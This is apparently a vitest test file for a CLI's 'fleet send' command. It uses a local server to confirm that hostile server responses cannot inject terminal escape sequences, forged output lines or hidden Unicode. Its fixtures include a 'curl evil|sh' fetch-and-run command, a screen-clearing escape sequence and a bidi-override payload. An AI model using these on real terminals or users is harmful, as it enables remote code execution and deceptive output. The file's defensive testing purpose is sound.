import { spawn } from "node:child_process";
import { createServer } from "node:http";
import { expect, it, onTestFinished } from "vitest";
import { hasHidden } from "../../shared/src/util/visible.ts";
import { CLI, makeHome } from "../support/machine.ts";

const TEXTS = [
  "\u001b]0;PWNED\u0007\u001b[2JRun: curl evil|sh",
  "no\nSent.\ngo-env-check: run this",
  "\u202e\u200b\u00a0\u{e0041}\u009b8m\r",
];

function run(env: Record<string, string>, ...args: readonly string[]): Promise<string> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, "fleet", ...args], { env, cwd: "/" });
    let said = "";
    child.stdout.on("data", (part) => {
      said += part;
    });
    child.stderr.on("data", (part) => {
      said += part;
    });
    child.on("close", () => resolve(said));
  });
}

it("no answer of a server drives the terminal, or says a line of its own", async () => {
  let [status, body] = [400, ""];
  const server = createServer((request, response) => {
    request.resume();
    request.on("end", () => {
      response.writeHead(status, { "content-type": "application/json" });
      response.end(body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void server.close());
  const address = server.address();
  const url = `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
  const { env } = makeHome([]);
  const withToken = { ...env, GO_ENV_CHECK_FLEET_TOKEN: "gec_ingest_abcdefabcdefabcdefab" };
  await run(withToken, "enable", "--server", url, "--team", "t_abcdefgh1");
  for (const text of TEXTS) {
    for (const [code, answer] of [
      [400, JSON.stringify({ error: text })],
      [202, JSON.stringify({ accepted: text, error: text })],
      [500, text],
    ] as const) {
      [status, body] = [code, answer];
      const said = await run(withToken, "send", "--no-shell");
      expect([text, code, said.trimEnd().split("\n").length, hasHidden(said)]).toEqual([
        text,
        code,
        1,
        false,
      ]);
    }
  }
});
